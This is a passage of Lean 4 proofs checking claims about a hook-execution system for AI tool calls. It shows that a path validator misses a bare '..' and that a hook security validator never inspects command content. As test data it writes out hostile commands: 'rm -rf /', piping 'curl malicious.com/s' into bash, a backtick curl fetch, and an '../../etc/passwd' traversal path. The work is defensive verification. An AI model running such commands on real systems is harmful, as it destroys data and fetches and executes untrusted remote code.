  refine ⟨fun h => by simp [matchesPattern, h],
    fun h1 h2 => by simp [matchesPattern, h1, h2], ?_⟩
  intro p t hp ht h1 h2
  rw [hp] at h1
  rw [ht] at h2
  simp [matchesPattern, hp, ht, h1, h2]

/-- Claim C3, witness: a matcher with no pattern selects unconditionally. -/
theorem matchesPattern_cases_witness :
    matchesPattern (fun _ => none) { matcher := none, hooks := [] } none = true :=
  (matchesPattern_cases (fun _ => none) { matcher := none, hooks := [] } none).1 rfl

/-- Claim C4: a dispatch producing a single exit-0 result whose stdout is
exactly Scenario D's JSON object aggregates to `shouldBlock = true`,
`blockReason = "nope"`, `shouldContinue = false`, `stopReason = "policy"`. -/
theorem scenarioD_aggregate :
    (executeHooks (fun _ => none) scenarioDExec scenarioDConfig
        .preToolUse (some "Bash")).shouldBlock = true ∧
      (executeHooks (fun _ => none) scenarioDExec scenarioDConfig
        .preToolUse (some "Bash")).blockReason = some (.str "nope") ∧
      (executeHooks (fun _ => none) scenarioDExec scenarioDConfig
        .preToolUse (some "Bash")).shouldContinue = false ∧
      (executeHooks (fun _ => none) scenarioDExec scenarioDConfig
        .preToolUse (some "Bash")).stopReason = some (.str "policy") :=
  ⟨rfl, rfl, rfl, rfl⟩

/-- Claim C5, counterexample to the claim as stated: a configured timeout of
`0` is not used — `timeout || DEFAULT_TIMEOUT` treats `0` as absent, so the
timer is armed for 60000 ms rather than `0 × 1000`. -/
theorem timeout_zero_not_respected :
    ¬ (∀ (c : HookCommand) (t : Int), c.timeout = some t →
        timeoutMsOf c = t * 1000) := by
  intro h
  have hz := h { command := "sleep 10", timeout := some 0 } 0 rfl
  have hc : timeoutMsOf { command := "sleep 10", timeout := some 0 } = 60000 := rfl
  rw [hc] at hz
  exact absurd hz (by decide)

/-- Claim C5, amended: the timer is armed for `timeoutSeconds × 1000` ms
where `timeoutSeconds` is the configured value when present and non-zero,
and 60 when the timeout is unspecified or equal to 0 (JS `||` treats a zero
timeout as absent). -/
theorem timeout_ms_amended (c : HookCommand) :
    (∀ t, c.timeout = some t → t ≠ 0 → timeoutMsOf c = t * 1000) ∧
    (c.timeout = none ∨ c.timeout = some 0 → timeoutMsOf c = 60 * 1000) := by
  constructor
  · intro t ht hnz
    simp [timeoutMsOf, timeoutSecondsOf, jsNumOr, ht, hnz]
  · rintro (h | h) <;>
      simp [timeoutMsOf, timeoutSecondsOf, jsNumOr, h, DEFAULT_TIMEOUT]

/-- Claim C5, witness: a configured timeout of 5 s arms the timer for
5000 ms. -/
theorem timeout_ms_amended_witness :
    timeoutMsOf { command := "sleep 1", timeout := some 5 } = 5 * 1000 :=
  (timeout_ms_amended _).1 5 rfl (by decide)

/-- Claim C6, counterexample to the claim as stated: the input `..`
normalizes to `..`, which still is a parent-directory traversal segment,
yet `validatePath` accepts it — the source checks only for the substring
`../`. -/
theorem validatePath_accepts_bare_dotdot :
    validatePath ".." = Except.ok () ∧
      specHasTraversalSegment (posixNormalize "..") = true :=
  ⟨rfl, rfl⟩

/-- Claim C6, amended: `validatePath` fails with the path-traversal error
iff the normalized path contains `../` as a substring; a normalized path
whose only traversal segment is a bare final `..` is accepted.  The
`resolve` against the working directory has no observable effect. -/
theorem validatePath_iff_contains_dotdot_slash :
    (∀ p, validatePath p = Except.ok () ↔
      strContains (posixNormalize p) "../" = false) ∧
    validatePath "../" = Except.error "Path traversal is not allowed" ∧
    validatePath "../../etc/passwd" = Except.error "Path traversal is not allowed" := by
  refine ⟨fun p => ?_, rfl, rfl⟩
  cases h : strContains (posixNormalize p) "../" <;> simp [validatePath, h]

/-- Claim C6, witness: a plain relative path is accepted. -/
theorem validatePath_iff_witness : validatePath "data/output.txt" = Except.ok () :=
  (validatePath_iff_contains_dotdot_slash.1 "data/output.txt").mpr rfl

/-- Claim C7: `validateHookSecurity` succeeds iff the command string is
non-empty and any present timeout is ≥ 0; in particular commands containing
shell metacharacters (`;`, `|`, backticks) are accepted — the validator
never inspects command content and, being a pure function, spawns
nothing. -/
theorem validateHookSecurity_structural :
    (∀ c : HookCommand, validateHookSecurity c = Except.ok () ↔
      (c.command ≠ "" ∧ ∀ t, c.timeout = some t → 0 ≤ t)) ∧
    validateHookSecurity { command := "echo \"hello\"; rm -rf /", timeout := some 5 } =
      Except.ok () ∧
    validateHookSecurity { command := "echo \"hello\" | curl malicious.com/s | bash" } =
      Except.ok () ∧
    validateHookSecurity { command := "echo `curl malicious.com/script`" } =
      Except.ok () := by
  refine ⟨fun c => ?_, rfl, rfl, rfl⟩
  by_cases hc : c.command = ""
  · simp [validateHookSecurity, hc]
  · cases ht : c.timeout with
    | none => simp [validateHookSecurity, hc, ht]
    | some t =>
      by_cases hlt : t < 0
      · have : ¬ (0 ≤ t) := by omega
        simp [validateHookSecurity, hc, ht, hlt, this]
      · have h0 : 0 ≤ t := by omega
        simp [validateHookSecurity, hc, ht, hlt, h0]

/-- Claim C7, witness: a plain command with no timeout passes validation. -/
theorem validateHookSecurity_structural_witness :
    validateHookSecurity { command := "ls" } = Except.ok () :=
  (validateHookSecurity_structural.1 { command := "ls" }).mpr
    ⟨by decide, fun t h => nomatch h⟩

/-- Claim C8, counterexample to the claim as stated: stdout `42` parses as
JSON but is not an object matching the StructuredDecision shape, yet the
source stores it in `jsonOutput` — no shape check is performed. -/
theorem jsonOutput_populated_with_non_object :
    (makeHookResult (some 0) "42" "" false false).jsonOutput = some (.num "42") ∧
      Json.isObj (.num "42") = false :=
  ⟨rfl, rfl⟩

/-- Claim C8, amended: the trimmed stdout is parsed as a single JSON value;
any successfully parsed value (object or not) populates `jsonOutput`; if
parsing fails, no error is raised — `jsonOutput` stays absent and the
trimmed stdout is kept as plain text. -/
theorem jsonOutput_best_effort (exitCode : Option Int)
    (stdoutRaw stderrRaw : String) (timedOut errored : Bool) :
    (parseJson (jsTrim stdoutRaw) = none →
      (makeHookResult exitCode stdoutRaw stderrRaw timedOut errored).jsonOutput = none) ∧
    (∀ v, parseJson (jsTrim stdoutRaw) = some v →
      (makeHookResult exitCode stdoutRaw stderrRaw timedOut errored).jsonOutput = some v) ∧
    (makeHookResult exitCode stdoutRaw stderrRaw timedOut errored).stdout =
      jsTrim stdoutRaw := by
  refine ⟨?_, ?_, rfl⟩
  · intro h
    by_cases he : jsTrim stdoutRaw = "" <;> simp [makeHookResult, he, h]
  · intro v hv
    by_cases he : jsTrim stdoutRaw = ""
    · rw [he, parseJson_empty] at hv
      exact absurd hv (by simp)
    · simp [makeHookResult, he, hv]

/-- Claim C8, witness: unparseable stdout leaves `jsonOutput` absent. -/
theorem jsonOutput_best_effort_witness :
    (makeHookResult (some 0) "not json" "" false false).jsonOutput = none :=
  (jsonOutput_best_effort (some 0) "not json" "" false false).1 rfl

/-- Claim C9: when the event name is absent from the configuration, or no
matcher selects, `executeHooks` returns the empty, non-blocking aggregate
and raises no error. -/
theorem executeHooks_empty_defaults (compile : String → Option (String → Bool))
    (exec : HookCommand → HookResult) (cfg : HookConfig) (ev : HookEventName)
    (mk : Option String)
    (h : cfg ev = none ∨
      ∀ hm ∈ (cfg ev).getD [], matchesPattern compile hm mk = false) :
    executeHooks compile exec cfg ev mk =
      { results := [], shouldBlock := false, blockReason := none,
        shouldContinue := true, stopReason := none, contextToAdd := [] } := by
  have hsel : ((cfg ev).getD []).filter (fun hm => matchesPattern compile hm mk) = [] := by
    rcases h with h | h
    · simp [h]
    · exact List.filter_eq_nil_iff.mpr fun a ha => by simp [h a ha]
  show processResults (((((cfg ev).getD []).filter
      fun hm => matchesPattern compile hm mk).flatMap fun hm => hm.hooks).map exec) = _
  rw [hsel]
  rfl

/-- Claim C9, witness: a configuration with no entries at all. -/
theorem executeHooks_empty_defaults_witness :
    executeHooks (fun _ => none) (fun _ => makeHookResult (some 0) "" "" false false)
      (fun _ => none) .stop none =
      { results := [], shouldBlock := false, blockReason := none,
        shouldContinue := true, stopReason := none, contextToAdd := [] } :=
  executeHooks_empty_defaults _ _ _ _ _ (Or.inl rfl)

/-- Claim C10: the aggregated `shouldBlock` is true iff some result exited 2
with non-empty stderr or carries structured output whose decision is
`block`; in particular exit code 2 with empty stderr never blocks, and a
set `shouldBlock` is never reset by later results. -/
theorem shouldBlock_iff_block_signal (results : List HookResult) :
    (processResults results).shouldBlock = true ↔
      ∃ r ∈ results, (r.exitCode = 2 ∧ r.stderr ≠ "") ∨
        ∃ j, r.jsonOutput = some j ∧ isStrVal (j.getField "decision") "block" = true := by
  show (List.foldl aggStep initAgg results).shouldBlock = true ↔ _
  rw [foldl_aggStep_shouldBlock]
  simp only [initAgg]
  simp [List.any_eq_true, blockSignal_iff]

end Hooks
